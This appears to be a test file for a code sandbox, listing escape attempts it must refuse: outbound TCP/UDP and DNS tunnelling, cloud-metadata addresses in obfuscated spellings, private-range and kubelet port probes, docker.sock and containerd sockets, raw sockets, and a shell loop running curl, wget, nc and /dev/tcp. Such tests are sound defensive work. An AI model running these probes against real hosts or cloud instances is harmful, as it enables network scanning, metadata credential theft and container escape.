import { connect } from "node:net";
import { SandlotError } from "../../../src/core/errors/sandlot-error.ts";
import type { ActedAttack, AttackEntry } from "../entry.ts";
import { anotherRefusal, killedOrRefused, prints, refused } from "../expect.ts";
import { py, sh } from "../kit.ts";

/** Python that tries to reach each address by TCP and by UDP; a send that leaves the program is a success. */
const REACH = `
import socket
def reach(host, port=80):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    def tcp():
        with socket.socket(family, socket.SOCK_STREAM) as end:
            end.settimeout(0.3)
            end.connect((host, port))
    def udp():
        with socket.socket(family, socket.SOCK_DGRAM) as end: return end.sendto(b"x", (host, port))
    attempt(f"tcp {host}", tcp)
    attempt(f"udp {host}", udp)
`;

const loopback = [
  {
    run: py`
import socket, threading
server = socket.create_server(("127.0.0.1", 0))
def answer():
    end, _ = server.accept()
    end.sendall(end.recv(5).upper())
    end.close()
thread = threading.Thread(target=answer)
thread.start()
with socket.create_connection(server.getsockname(), 5) as client:
    client.sendall(b"hello")
    print(client.recv(5))
thread.join()
`,
    prints: "b'HELLO'\n",
  },
  {
    run: py`
import asyncio
async def main():
    async def answer(reader, writer):
        writer.write(await reader.readline())
        await writer.drain()
        writer.close()
    server = await asyncio.start_server(answer, "localhost", 0)
    reader, writer = await asyncio.open_connection(*server.sockets[0].getsockname()[:2])
    writer.write(b"over asyncio\n")
    print(await reader.readline())
    writer.close()
asyncio.run(main())
`,
    prints: "b'over asyncio\\n'\n",
  },
];

export const publicAddresses: AttackEntry = {
  id: "D51",
  title: "TCP and UDP to public addresses",
  variants: [
    {
      name: "by sockets",
      run: py`${REACH}
for host in ("1.1.1.1", "8.8.8.8", "93.184.216.34", "2606:4700:4700::1111", "2001:4860:4860::8888"):
    for port in (53, 80, 443): reach(host, port)
end()
`,
      expect: refused(),
    },
    {
      name: "by other transports",
      run: py`
import socket
def of(family, kind, protocol, address):
    def act():
        with socket.socket(family, kind, protocol) as end:
            end.settimeout(0.3)
            end.connect(address)
            return end.send(b"x")
    return act
for protocol in (0, 6, 17, 33, 132, 136, 262):
    for kind in (1, 2, 5, 6):
        attempt(f"protocol {protocol} kind {kind}", of(socket.AF_INET, kind, protocol, ("1.1.1.1", 80)))
def fast_open():
    with socket.socket() as end: return end.sendto(b"x", 0x20000000, ("1.1.1.1", 80))
attempt("fast open", fast_open)
end()
`,
      expect: refused(),
    },
    {
      name: "in the shell",
      run: sh`for tool in curl wget nc ping telnet; do command -v $tool >/dev/null && timeout 1 $tool 1.1.1.1 </dev/null >/dev/null 2>&1 && echo "SUCCEEDED $tool"; done; (exec 3<>/dev/tcp/1.1.1.1/80) 2>/dev/null && echo SUCCEEDED; echo refused; echo END`,
      expect: refused(),
    },
    {
      name: "with routes and addresses of its own",
      run: py`
import fcntl, socket, struct
end_ = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def tunnel(flags): fcntl.ioctl(os.open("/dev/net/tun", os.O_RDWR), 0x400454CA, struct.pack("16sH22x", b"own0", flags))
for name, number in (("SIOCADDRT", 0x890B), ("SIOCSIFADDR", 0x8916), ("SIOCSIFFLAGS", 0x8914), ("SIOCSIFNAME", 0x8923), ("SIOCBRADDBR", 0x89A0), ("SIOCSARP", 0x8955)):
    attempt(name, lambda: fcntl.ioctl(end_, number, b"lo" + bytes(118)))
# gVisor has the device for everybody; what counts is an interface made by it.
for flags in (1, 2): attempt(f"tun {flags}", lambda: tunnel(flags))
def mark():
    end_.setsockopt(socket.SOL_SOCKET, 36, 1)
    # gVisor of 2022 takes what it does not know, and does nothing.
    if end_.getsockopt(socket.SOL_SOCKET, 36) != 1: raise PermissionError(errno.EPERM, "not taken")
attempt("SO_MARK", mark)
attempt("SO_BINDTODEVICE", lambda: end_.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0"))
attempt("iptables", lambda: end_.setsockopt(0, 64, bytes(100)))
attempt("ip_forward", lambda: open("/proc/sys/net/ipv4/ip_forward", "w"))
print(sorted(os.listdir("/sys/class/net") if os.path.exists("/sys/class/net") else []) in ([], ["lo"]) or "SUCCEEDED seeing interfaces")
end()
`,
      expect: refused(),
    },
  ],
  twins: loopback,
};

export const names: AttackEntry = {
  id: "D52",
  title: "DNS: lookups, tunnelling, direct to a resolver, over HTTPS",
  variants: [
    {
      name: "by the library and by hand",
      run: py`${REACH}
for name in ("example.com", "data.of.the.candidate.evil.example", "metadata.google.internal", "registry.npmjs.org"):
    attempt(name, lambda: socket.getaddrinfo(name, 80))
resolvers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")] if os.path.exists("/etc/resolv.conf") else []
for host in ["8.8.8.8", "1.1.1.1", "9.9.9.9", "127.0.0.53", "127.0.0.11"] + resolvers:
    def ask():
        with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as end:
            end.settimeout(0.3)
            end.connect((host, 53))
            end.send(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01")
            return end.recv(512)
    attempt(f"direct {host}", ask)
reach("1.1.1.1", 443)
reach("8.8.8.8", 853)
end()
`,
      expect: refused(),
    },
    {
      name: "through a daemon of the machine",
      run: py`
import socket
for path in ("/run/systemd/resolve/io.systemd.Resolve", "/var/run/nscd/socket", "/run/dbus/system_bus_socket", "/run/avahi-daemon/socket"):
    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path))
end()
`,
      expect: refused(),
    },
  ],
  twins: [
    {
      run: py`
import socket
print(socket.getaddrinfo("127.0.0.1", 80)[0][4], socket.inet_aton("127.1"))
`,
      prints: "('127.0.0.1', 80) b'\\x7f\\x00\\x00\\x01'\n",
    },
  ],
};

export const metadata: AttackEntry = {
  id: "D53",
  title: "Cloud metadata in all its spellings",
  variants: [
    {
      name: "addresses",
      run: py`${REACH}
for host in ("169.254.169.254", "169.254.170.2", "fd00:ec2::254", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "100.100.100.200", "168.63.129.16", "169.254.0.1", "fe80::1"): reach(host)
end()
`,
      expect: refused(),
    },
    {
      name: "as decimal, octal and hexadecimal, and by names that resolve to it",
      run: py`
import urllib.request
for host in ("2852039166", "0251.0376.0251.0376", "0xa9fea9fe", "169.254.43518", "metadata.google.internal", "169.254.169.254.nip.io", "instance-data"):
    attempt(host, lambda: urllib.request.urlopen(f"http://{host}/latest/meta-data/", timeout=0.5).read())
end()
`,
      expect: refused(),
    },
  ],
  twins: loopback,
};

export const privateRanges: AttackEntry = {
  id: "D54",
  title: "Private ranges, the node, the kubelet, the API server, other sandboxes",
  variants: [
    {
      name: "addresses and their usual ports",
      run: py`${REACH}
for host in ("10.0.0.1", "10.96.0.1", "10.96.0.10", "172.17.0.1", "172.17.0.2", "172.18.0.1", "192.168.0.1", "192.168.1.1", "100.64.0.1", "198.18.0.1", "fc00::1", "fd00::1", "192.0.0.192"):
    for port in (22, 443, 2375, 6443, 10250): reach(host, port)
end()
`,
      expect: refused(),
    },
    {
      name: "broadcast, multicast and the neighbours on a link",
      run: py`
import socket
end_ = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
end_.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
for host in ("255.255.255.255", "172.17.255.255", "224.0.0.1", "224.0.0.251", "239.255.255.250"):
    attempt(host, lambda: end_.sendto(b"x", (host, 5353)))
six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
for host in ("ff02::1", "ff02::fb"):
    attempt(host, lambda: six.sendto(b"x", (host, 5353)))
end()
`,
      expect: refused(),
    },
  ],
  twins: loopback,
};

export const neighboursPorts: AttackEntry = {
  id: "D55",
  title: "Loopback services of the agent or of a neighbour",
  variants: [
    {
      name: "every port, while a neighbour listens",
      run: py`
import socket
time.sleep(0.3)
opened = []
for port in (*range(1, 1024), 5000, 5432, 6000, 6001, 8000, 8080, 8888, 9090, 44773):
    for host in ("127.0.0.1", "127.0.0.2", "0.0.0.0"):
        with socket.socket() as end:
            end.settimeout(0.2)
            if end.connect_ex((host, port)) == 0: opened.append((host, port))
print(opened)
`,
      expect: prints("[]\n"),
      beside: {
        run: py`
import socket
servers = []
for port in (6000, 6001, 8080):
    try: servers.append(socket.create_server(("0.0.0.0", port)))
    except OSError: pass
for server in servers: server.settimeout(0.4)
met = []
for server in servers:
    try: met.append(server.accept()[1])
    except OSError: pass
print(met)
`,
        expect: prints("[]\n"),
      },
    },
    {
      name: "the same port as a neighbour",
      run: py`
import socket
server = socket.create_server(("0.0.0.0", 7000))
time.sleep(0.5)
print("bound")
`,
      expect: prints("bound\n"),
      beside: {
        afterMs: 200,
        run: py`
import socket
server = socket.create_server(("0.0.0.0", 7000))
print("bound")
`,
        expect: prints("bound\n"),
      },
    },
  ],
  twins: loopback,
};

export const unixSockets: AttackEntry = {
  id: "D56",
  title: "Abstract and host Unix sockets, docker.sock, containerd",
  variants: [
    {
      name: "by path and by name",
      run: py`
import glob, socket
paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/containerd/s/x", "/run/podman/podman.sock", "/run/crio/crio.sock",
         "/run/user/1000/bus", "/tmp/.X11-unix/X0", "/run/systemd/private", "/run/postgresql/.s.PGSQL.5432", "/sandlot/agent.sock",
         "\0/containerd-shim", "\0/tmp/.X11-unix/X0", "\0/tmp/dbus", "\0sandlot"]
paths += ["\0" + line.split("@")[1] for line in open("/proc/net/unix").read().splitlines()[1:] if "@" in line]
for path in paths: attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path))
found = [path for root in ("/run", "/var/run", "/tmp", "/sandlot") for path in glob.glob(root + "/**", recursive=True) if os.path.exists(path) and (os.stat(path).st_mode & 0o170000) == 0o140000]
print("SUCCEEDED finding" if found else "none", found)
end()
`,
      expect: refused(),
    },
    {
      name: "an abstract name of a neighbour",
      run: py`
import socket
server = socket.socket(socket.AF_UNIX)
server.bind("\0squatted"); server.listen()
server.settimeout(0.6)
try: print("met", server.accept())
except OSError: print("alone")
`,
      expect: prints("alone\n"),
      beside: {
        afterMs: 200,
        run: py`
import socket
attempt("connect", lambda: socket.socket(socket.AF_UNIX).connect("\0squatted"))
socket.socket(socket.AF_UNIX).bind("\0squatted")
end()
`,
        expect: refused(),
      },
    },
  ],
  twins: [
    {
      run: py`
import socket
server = socket.socket(socket.AF_UNIX)
server.bind("\0own"); server.listen()
client = socket.socket(socket.AF_UNIX)
client.connect("\0own")
print("met")
`,
      prints: "met\n",
    },
  ],
};

export const rawSockets: AttackEntry = {
  id: "D57",
  title: "Raw, packet, netlink, vsock and other sockets",
  variants: [
    {
      name: "every family, kind and protocol of note",
      run: py`
import socket
for family in range(0, 46):
    if family in (1, 2, 10): continue
    for kind in (1, 2, 3, 5):
        attempt(f"family {family} kind {kind}", lambda: socket.socket(family, kind, 0))
for family in (2, 10):
    for protocol in (0, 1, 6, 17, 58, 255): attempt(f"raw {family} {protocol}", lambda: socket.socket(family, socket.SOCK_RAW, protocol))
    for protocol in (1, 58): attempt(f"ping {family} {protocol}", lambda: socket.socket(family, socket.SOCK_DGRAM, protocol))
    for protocol in (2, 33, 46, 47, 50, 103, 108, 115, 132, 136, 256, 262):
        for kind in (1, 2, 5): attempt(f"protocol {family} {protocol} kind {kind}", lambda: socket.socket(family, kind, protocol))
attempt("pair of netlink", lambda: socket.socketpair(socket.AF_NETLINK, socket.SOCK_RAW))
end()
`,
      expect: refused(),
    },
    {
      name: "by the calls of 32-bit programs",
      run: py`
# socket(AF_NETLINK, SOCK_RAW, 0) by int 0x80, whose numbers are others: 359 is nobody's otherwise.
print("calling", flush=True)
got = machine(bytes.fromhex("b867010000bb10000000b90300000031d2cd80c3"))()
print("SUCCEEDED" if got >= 0 else "refused", got)
sys.exit(1)
`,
      expect: killedOrRefused,
    },
    {
      name: "options that load code into the kernel or widen a socket's reach",
      run: py`
import socket, struct
end_ = socket.socket()
attempt("TCP_ULP tls", lambda: end_.setsockopt(6, 31, b"tls"))
attempt("TCP_CONGESTION", lambda: end_.setsockopt(6, 13, b"not_there"))
def grow(forced, plain):
    # To be answered as if it had worked is as good as a refusal.
    end_.setsockopt(1, forced, 1 << 28)
    if end_.getsockopt(1, plain) < 1 << 24: raise PermissionError(1, "not grown")
attempt("SO_SNDBUFFORCE", lambda: grow(32, 7))
attempt("SO_RCVBUFFORCE", lambda: grow(33, 8))
def take(level, option, value):
    end_.setsockopt(level, option, value)
    if end_.getsockopt(level, option) != value: raise PermissionError(1, "not taken")
attempt("SO_PRIORITY", lambda: take(1, 12, 7))
attempt("IP_TRANSPARENT", lambda: take(0, 19, 1))
attempt("TCP_REPAIR", lambda: take(6, 19, 1))
def attach():
    end_.setsockopt(1, 50, 3)
    if os.path.exists("/proc/sentry-meminfo"): raise PermissionError(1, "gVisor takes what it does not know, and does nothing")
attempt("SO_ATTACH_BPF", attach)
end()
`,
      expect: refused(),
    },
  ],
  twins: [
    {
      run: py`
import socket
for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET6, socket.SOCK_STREAM), (socket.AF_UNIX, socket.SOCK_STREAM), (socket.AF_UNIX, socket.SOCK_SEQPACKET)):
    socket.socket(family, kind).close()
socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_TCP).close()
print("made")
`,
      prints: "made\n",
    },
  ],
};

function reachable(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = connect({ host: "127.0.0.1", port, timeout: 500 });
    socket.once("connect", () => (socket.destroy(), resolve(true)));
    socket.once("error", () => resolve(false));
    socket.once("timeout", () => (socket.destroy(), resolve(false)));
  });
}

const listening: ActedAttack = {
  name: "a server on every address",
  word: "refused",
  says: "nobody outside reaches it",
  act: async (arena) => {
    const port = 39_741;
    const running = arena.run(
      await arena.open(),
      py`
import socket
server = socket.create_server(("0.0.0.0", ${port}))
server.settimeout(1.5)
try: print("met", server.accept()[1])
except OSError: print("alone")
`,
    );
    for (let tries = 0; tries < 5; tries++) {
      await new Promise((resolve) => setTimeout(resolve, 150));
      if (await reachable(port)) return "reached from the machine";
    }
    const out = Buffer.from((await running).stdout.head).toString();
    return out === "alone\n" ? null : out;
  },
};

export const listeners: AttackEntry = {
  id: "D59",
  title: "Listening and being reached from outside",
  variants: [listening],
  twins: loopback,
};

const noEgress = (what: string): ActedAttack => ({
  name: `a pool that asks for ${what}`,
  word: "refused",
  says: "refused as a specification",
  act: async (arena) => {
    try {
      await arena.open({ network: what as "none" });
      return "a sandbox was made";
    } catch (error) {
      const names = SandlotError.is(error, "sandbox_unsupported") && error.message.includes(`network ${what}`);
      return names ? null : anotherRefusal(error);
    }
  },
});

export const allowLists: AttackEntry = {
  id: "D58",
  title: "Allow-list bypass",
  variants: [noEgress("internet"), noEgress("allow-list")],
  twins: loopback,
};

export const bandwidth: AttackEntry = {
  id: "D60",
  title: "Bandwidth flood when egress is allowed",
  variants: [noEgress("host")],
  twins: loopback,
};
